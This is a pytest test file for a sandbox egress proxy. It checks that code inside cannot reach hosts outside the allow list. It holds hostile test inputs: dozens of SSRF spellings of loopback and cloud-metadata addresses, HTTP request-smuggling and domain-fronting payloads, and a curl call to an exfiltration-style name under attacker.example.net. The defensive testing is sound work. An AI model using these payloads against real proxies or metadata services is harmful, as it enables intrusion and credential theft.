"""A program inside tries every way out that the proxy might leave open; none leads to a host that no entry names."""

import asyncio
import ssl
import subprocess
import sys
from collections.abc import Sequence
from pathlib import Path

import pytest

from tests.fence.secluded import PORT, Answering, answering, secluded

pytestmark = pytest.mark.promise("P2")

TALK = f"""
import socket, sys
s = socket.create_connection(("127.0.0.1", {PORT})); s.settimeout(15)
for part in sys.argv[1:]:
    s.sendall(part.encode().decode("unicode_escape").encode("latin-1"))
data = b""
try:
    while more := s.recv(65536): data += more
except OSError as error: data += repr(error).encode()
sys.stdout.buffer.write(data)
"""


@pytest.mark.parametrize(
    "text",
    [
        "import socket; socket.create_connection((sys.argv[1], int(sys.argv[2])), 5)",
        "import socket; s=socket.socket(2,2); s.sendto(b'x', (sys.argv[1], 53)); s.settimeout(1); s.recv(1)",
        "import socket; s=socket.socket(10,2); s.sendto(b'x', ('2001:db8::1', 53))",
        "import socket; s=socket.socket(2,2); s.setsockopt(1,6,1); s.sendto(b'x', ('255.255.255.255', 67))",
        "import socket; socket.socket(2, 3, 1).sendto(b'x', (sys.argv[1], 0))",
    ],
    ids=["tcp", "udp", "udp6", "broadcast", "icmp"],
)
async def test_nothing_leaves_without_the_proxy(text: str) -> None:
    ran = await secluded(["*"]).python("import sys; " + text, "192.0.2.1", "80")
    assert ran.code != 0, ran


async def test_a_name_cannot_be_looked_up_inside() -> None:
    ran = await secluded(["*"]).python("import socket; print(socket.getaddrinfo('example.com', 80))")
    assert ran.code != 0


async def test_a_refused_name_tells_nobody_what_is_in_it() -> None:
    place = secluded(["*.example.com:443"])
    leak = "ZXhmaWx0cmF0ZWQ.attacker.example.net"
    ran = await place.run("curl", "-sS", f"https://{leak}/")
    assert ran.code != 0
    assert place.looked_up == []


@pytest.mark.parametrize(
    "host",
    [
        "2130706433", "0x7f000001", "0x7f.1", "0177.0.0.1", "127.1", "127.0.1", "0", "0.0.0.0", "[::]", "[::1]",
        "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[64:ff9b::7f00:1]", "127.0.0.1.", "LOCALHOST", "localhost.",
        "2852039166", "0xa9fea9fe", "169.254.169.254", "[::ffff:a9fe:a9fe]", "[fe80::1]", "[fe80::1%25lo]", "[::1%lo]",
        "①②⑦.0.0.1", "127。0。0。1", "1.2.3.4.5", "a..b", "-x.example.com", "exa mple.com", "x@127.0.0.1", "127.0.0.1#",
        "127.0.0.1\\\\.example.com", "%31%32%37.0.0.1", "metadata.google.internal", "rebound.example.com",
    ],
)  # fmt: skip
async def test_this_machine_and_its_metadata_are_not_reached_by_any_spelling(host: str) -> None:
    """``*`` and a glob name neither loopback nor a link-local address, whoever's name leads there."""
    async with answering() as port:
        names = {
            "metadata.google.internal": ["169.254.169.254"],
            "rebound.example.com": ["127.0.0.1", "::1", "0.0.0.0"],
            "localhost": ["127.0.0.1"],
        }
        place = secluded(["*", "*.example.com"], names=names)
        for ask in (f"CONNECT {host}:{port} HTTP/1.1", f"GET http://{host}:{port}/ HTTP/1.1"):
            ran = await place.python(TALK, ask + "\\r\\nHost: ok.example.com\\r\\n\\r\\n")
            assert ran.out.startswith(("HTTP/1.1 400", "HTTP/1.1 403")), (ask, ran)
        assert Answering.seen == []
    assert not any(each.is_open for each in place.guard.outcomes)


async def test_a_name_of_a_glob_does_not_lead_to_a_private_address() -> None:
    place = secluded(["*.example.com:80"], names={"x.example.com": ["10.1.2.3"]})
    ran = await place.run("curl", "-sS", "http://x.example.com/")
    assert "a private address" in ran.out


async def test_a_name_is_not_looked_up_a_second_time_between_check_and_use() -> None:
    """The address that was judged is the one that is connected to."""

    async with answering() as port:
        place = secluded([f"turn.example.com:{port}"], names={})
        answers = [["192.0.2.7"], ["127.0.0.1"]]

        async def resolve(host: str, _port: int) -> Sequence[str]:
            place.looked_up.append(host)
            return answers[min(len(place.looked_up) - 1, 1)]

        place.resolve = resolve  # type: ignore[method-assign]
        connected: list[str] = []
        real = asyncio.open_connection

        async def connect(host: str, number: int) -> object:
            connected.append(host)
            raise OSError("unreachable here")

        asyncio.open_connection = connect  # type: ignore[assignment]
        try:
            await place.run("curl", "-sS", f"http://turn.example.com:{port}/")
        finally:
            asyncio.open_connection = real
    assert connected == ["192.0.2.7"]
    assert place.looked_up == ["turn.example.com"]


@pytest.mark.parametrize(
    "head",
    [
        "GET / HTTP/1.1\\r\\nHost: 127.0.0.1:{port}\\r\\n\\r\\n",
        "GET /x HTTP/1.1\\r\\nHost: 127.0.0.1:{port}\\r\\nX-Forwarded-Host: a\\r\\n\\r\\n",
        "GET https://127.0.0.1:{port}/ HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n",
        "GET ftp://127.0.0.1:{port}/ HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n",
        "GET http://user:pw@127.0.0.1:{port}/ HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n",
        "GET http://127.0.0.1:{port}\\t/ HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n",
        "CONNECT 127.0.0.1 HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n",
        "CONNECT 127.0.0.1:{port}:80 HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n",
        "CONNECT 127.0.0.1:+{port} HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n",
        "CONNECT 127.0.0.1:65536 HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n",
        "CONNECT 127.0.0.1:0 HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n",
        "CONNECT http://127.0.0.1:{port} HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n",
        "GET http://127.0.0.1:{port}/ HTTP/1.1\\r\\nHost: a\\r\\nHost: b\\r\\n\\r\\n",
        "POST http://127.0.0.1:{port}/ HTTP/1.1\\r\\nHost: a\\r\\nContent-Length: 1\\r\\nContent-Length: 9\\r\\n\\r\\n",
        "GET http://127.0.0.1:{port}/ HTTP/1.1\\r\\nHost: a\\r\\nX : y\\r\\n\\r\\n",
        "GET http://127.0.0.1:{port}/\\x00 HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n",
        "\\x05\\x01\\x00",
        "\\x16\\x03\\x01\\x00\\x05hello",
        "X" * 40000,
    ],
)
async def test_what_is_not_one_plain_request_is_answered_with_an_error_and_reaches_nobody(head: str) -> None:
    async with answering() as port:
        place = secluded([f"127.0.0.1:{port}"])
        ran = await place.python(TALK + "\ns.close()", head.replace("{port}", str(port)) + "\\r\\n\\r\\n")
        assert ran.out.startswith("HTTP/1.1 400") or ran.out == "", ran.out
        assert Answering.seen == []


async def test_the_host_header_is_the_host_that_was_judged() -> None:
    async with answering() as port:
        place = secluded([f"127.0.0.1:{port}"])
        ran = await place.run("curl", "-sS", "-H", "Host: internal.example.com", f"http://127.0.0.1:{port}/")
    assert ran.out.startswith(f"127.0.0.1:{port} /")


async def test_what_is_meant_for_the_proxy_does_not_reach_the_server() -> None:
    async with answering() as port:
        place = secluded([f"127.0.0.1:{port}"])
        await place.run(
            "curl", "-sS", "-H", "Proxy-Authorization: Basic x", "-H", "Connection: X-Drop, close", "-H", "X-Drop: 1",
            "-H", "Upgrade: h2c", "-H", "TE: trailers", f"http://127.0.0.1:{port}/",
        )  # fmt: skip
        sent = Answering.seen[0][2].lower()
    assert not any(word in sent for word in ("proxy-authorization", "x-drop", "upgrade", "te:"))


async def test_a_second_request_hides_behind_no_first_one() -> None:
    async with answering() as port:
        place = secluded([f"127.0.0.1:{port}"])
        one = f"GET http://127.0.0.1:{port}/one HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n"
        two = f"GET http://127.0.0.1:{port}/two HTTP/1.1\\r\\nHost: internal.example.com\\r\\n\\r\\n"
        smuggled = (
            f"POST http://127.0.0.1:{port}/three HTTP/1.1\\r\\nHost: a\\r\\nContent-Length: 4\\r\\n"
            f"Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n{two}"
        )
        await place.python(TALK, one + two)
        await place.python(TALK, smuggled)
        assert not any(path == "/two" or path.endswith("/two") for _, path, _ in Answering.seen)


@pytest.mark.parametrize(
    "where", ["http://127.0.0.1:{other}/", "http://169.254.169.254/latest/", "http://localhost:{other}/"]
)
async def test_a_redirect_is_judged_like_any_request(where: str) -> None:
    async with answering() as port:
        place = secluded([f"api.example.com:{port}", f"127.0.0.1:{port}"], names={"api.example.com": ["127.0.0.1"]})
        target = where.replace("{other}", str(port + 1 if port < 65535 else port - 1))
        ran = await place.run("curl", "-sSL", f"http://api.example.com:{port}/to?{target}")
    assert "execkit-mcp: " in ran.out
    assert [each.is_open for each in place.guard.outcomes] == [True, False]


async def test_a_tunnel_does_not_speak_of_another_host_in_tls(tmp_path: Path) -> None:
    key, cert = tmp_path / "key.pem", tmp_path / "cert.pem"
    subprocess.run(
        ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", key, "-out", cert, "-subj", "/CN=a"],
        check=True,
        capture_output=True,
    )
    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    context.load_cert_chain(cert, key)

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\nserved")
        await writer.drain()
        writer.close()

    server = await asyncio.start_server(answer, "127.0.0.1", 0, ssl=context)
    port = server.sockets[0].getsockname()[1]
    names = {name: ["127.0.0.1"] for name in ("front.example.com", "hidden.example.com")}
    place = secluded([f"front.example.com:{port}", f"127.0.0.1:{port}"], names=names)
    try:
        honest = await place.run("curl", "-sSk", f"https://front.example.com:{port}/")
        fronted = await place.run(
            "curl", "-sSk", "--connect-to", f"hidden.example.com:{port}:front.example.com:{port}",
            f"https://hidden.example.com:{port}/",
        )  # fmt: skip
    finally:
        server.close()
        await server.wait_closed()
    assert honest.out == "served"
    assert "served" not in fronted.out
    assert "speak of hidden.example.com" in place.guard.outcomes[-1].reason


async def test_a_tunnel_does_not_speak_of_another_host_in_http() -> None:
    async with answering() as port:
        place = secluded([f"127.0.0.1:{port}", f"front.example.com:{port}"], names={"front.example.com": ["127.0.0.1"]})
        inner = f"GET / HTTP/1.1\\r\\nHost: hidden.example.com:{port}\\r\\n\\r\\n"
        ran = await place.python(TALK, f"CONNECT front.example.com:{port} HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n", inner)
        assert Answering.seen == []
    assert "hidden.example.com /" not in ran.out


async def test_a_listener_of_execkit_itself_is_never_reached() -> None:
    script = (
        "import socket,sys; s=socket.create_server(('127.0.0.1',0));"
        "print(s.getsockname()[1], flush=True); sys.stdin.read()"
    )
    process = await asyncio.create_subprocess_exec(
        sys.executable, "-c", script, "/usr/bin/execkit-mcp", "serve",
        stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.PIPE,
    )  # fmt: skip
    assert process.stdout is not None
    port = int(await process.stdout.readline())
    place = secluded(["localhost:*", "127.0.0.1"], names={"localhost": ["127.0.0.1"]}, services={PORT + 1: port})
    try:
        named = await place.run("curl", "-sS", f"http://localhost:{port}/")
        mirrored = await place.run("curl", "-sS", "--max-time", "5", f"http://127.0.0.1:{PORT + 1}/", env={})
    finally:
        process.kill()
        await process.communicate()
    assert "a listener of execkit-mcp itself" in named.out
    assert mirrored.code != 0
    assert not any(each.is_open for each in place.guard.outcomes)
